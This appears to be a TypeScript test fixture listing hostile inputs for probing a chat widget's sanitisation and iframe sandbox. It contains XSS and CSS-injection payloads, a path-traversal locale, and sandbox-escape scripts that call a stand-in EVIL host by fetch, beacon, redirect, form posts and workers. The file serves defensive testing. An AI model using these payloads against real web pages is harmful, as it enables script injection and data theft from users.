import { type Attack, answer, EVIL, RUN } from './attack.js'

const HTML = `<img src=x onerror="${RUN}"><script>${RUN}</script>`
const CSS = `red;background:url(https://${EVIL}/x)}body{background:url(https://${EVIL}/y)`
const option = (name: string, options: Record<string, unknown>): Attack => ({
  name: `option: ${name}`,
  options,
  events: [answer('after')],
})
const sandboxed = (name: string, html: string): Attack => ({
  name: `sandbox: ${name}`,
  options: { customWidgets: { hostile: { html } } },
  events: [
    {
      type: 'thread.item.done',
      item: {
        id: `s_${name}`,
        thread_id: 't',
        created_at: '2026-01-01',
        type: 'widget',
        widget: { type: 'Basic', children: [{ type: 'hostile', secret: 'words' }] },
      },
    },
  ],
  inSandbox: true,
})
const script = (name: string, code: string) => sandboxed(name, `<p>here</p><script>${code}</script>`)

/** What a page hands on from its own users, and pages in a widget's sandbox. */
export const OPTIONS: Attack[] = [
  option('texts with HTML', {
    startScreen: { greeting: HTML, prompts: [{ label: HTML, prompt: HTML, icon: HTML }] },
    composer: { placeholder: HTML },
    header: { title: { text: HTML } },
    frameTitle: HTML,
  }),
  option('disclaimer with script', {
    disclaimer: { text: `${HTML} [x](javascript:${RUN}) ![y](https://${EVIL}/y.png)` },
  }),
  option('theme with CSS in its colours', {
    theme: {
      color: {
        accent: { primary: CSS, level: 1 },
        surface: { background: CSS, foreground: CSS },
        grayscale: { hue: CSS, tint: 1e9 },
      },
    },
  }),
  option('theme with CSS in its fonts', {
    theme: {
      typography: {
        fontFamily: `x;}*{background:url(https://${EVIL}/f)}`,
        fontFamilyMono: `url(https://${EVIL}/m)`,
        baseSize: 1e9,
      },
    },
  }),
  option('theme with words nobody knows', { theme: { radius: '__proto__', density: CSS, colorScheme: CSS } }),
  option('tools and models with HTML', {
    composer: {
      tools: [{ id: HTML, label: HTML, icon: HTML, pinned: true }],
      models: [{ id: HTML, label: HTML, description: HTML }],
    },
  }),
  option('locale that is a path', { locale: '../../../evil' }),
  option('header action with HTML', { header: { leftAction: { icon: HTML, onClick: true } } }),
  script(
    'the chat is out of reach',
    'try { parent.document.title; top.pwned = 1 } catch {} try { parent.parent.pwned = 1 } catch {}',
  ),
  script(
    'requests',
    `fetch('http://${EVIL}/'); new Image().src = 'http://${EVIL}/i'; navigator.sendBeacon('http://${EVIL}/b'); new WebSocket('ws://${EVIL}/')`,
  ),
  script(
    'styles and fonts',
    `document.head.insertAdjacentHTML('beforeend', '<style>@import url(http://${EVIL}/a.css);@font-face{font-family:x;src:url(http://${EVIL}/f)}body{font:1px x;background:url(http://${EVIL}/b)}</style>')`,
  ),
  script('leading its own frame elsewhere', `location.href = 'http://${EVIL}/?secret'`),
  script(
    'leading its own frame elsewhere by a link',
    `const a = document.createElement('a'); a.href = 'http://${EVIL}/'; document.body.append(a); a.click()`,
  ),
  script(
    'leading the page elsewhere',
    `try { top.location = 'http://${EVIL}/' } catch {} try { parent.location = 'http://${EVIL}/' } catch {}`,
  ),
  script('windows and dialogs', `open('http://${EVIL}/'); alert(1); confirm(1); prompt(1); print()`),
  sandboxed('refresh', `<meta http-equiv="refresh" content="0;url=http://${EVIL}/">`),
  sandboxed(
    'a form',
    `<form action="http://${EVIL}/" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
  ),
  sandboxed(
    'frames of its own',
    `<iframe src="http://${EVIL}/"></iframe><object data="http://${EVIL}/o"></object><embed src="http://${EVIL}/e">`,
  ),
  sandboxed(
    'another policy',
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="http://${EVIL}/p"><base href="http://${EVIL}/"><img src="rel">`,
  ),
  script(
    'storage and cookies',
    'try { localStorage.x = 1; top.pwned = 1 } catch {} try { document.cookie = "a=b" } catch {} try { indexedDB.open("x") } catch {}',
  ),
  sandboxed(
    'lines that are opened ahead',
    `<link rel="preconnect" href="http://${EVIL}"><link rel="dns-prefetch" href="http://secret.${EVIL}"><link rel="prefetch" href="http://${EVIL}/p"><link rel="modulepreload" href="http://${EVIL}/m.js">`,
  ),
  script(
    'a worker',
    `try { new Worker('http://${EVIL}/w.js') } catch {} try { new Worker(URL.createObjectURL(new Blob(['fetch("http://${EVIL}/")']))) } catch {} navigator.serviceWorker?.register('/x.js').catch(() => 0)`,
  ),
  script(
    'a monstrous size',
    `parent.postMessage({ type: 'parley.sandbox.size', height: 1e9 }, '*'); parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { height: 1e12, width: 1e12 } }, '*')`,
  ),
  script(
    'messages that are no messages',
    `for (const m of [null, 7, 'x', [], { type: '__proto__' }, { jsonrpc: '2.0', id: 1, method: 'constructor' }, { jsonrpc: '2.0', id: {}, method: 'x' }, { type: 'parley.port' }, { type: 'parley.hello', nonce: 'x' }]) parent.postMessage(m, '*')`,
  ),
  script(
    'links that are no links',
    `for (const url of ['javascript:${RUN}', 'data:text/html,x', 'https://a@${EVIL}/', '/admin']) parent.postMessage({ type: 'parley.sandbox.link', url }, '*')`,
  ),
  script(
    'the page around the chat',
    `for (const w of [parent, parent.parent, top]) w.postMessage({ type: 'parley.hello', nonce: '' }, '*')`,
  ),
  script(
    'powers of the machine',
    'navigator.mediaDevices?.getUserMedia({ audio: true }).then(() => { top.pwned = 1 }, () => 0); navigator.geolocation?.getCurrentPosition(() => 0, () => 0)',
  ),
]
